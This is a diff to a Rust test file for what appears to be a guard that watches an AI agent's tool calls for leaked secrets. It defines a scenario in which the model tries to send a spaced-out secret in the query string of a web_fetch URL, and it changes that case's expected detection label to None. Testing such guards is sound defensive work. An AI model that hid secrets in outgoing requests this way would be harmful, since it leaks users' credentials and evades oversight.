@@ -381,7 +381,7 @@ pub fn hook() -> Vec<Scenario> {
             model_sends(
                 "hook-model-sends-secret-spaced",
                 web_fetch(format!("http://docs.example.com/second?d={spaced}")),
-                Some("secrets5 #7"),
+                None,
             ),
         ),
         on(Face::Hook, subfolder),
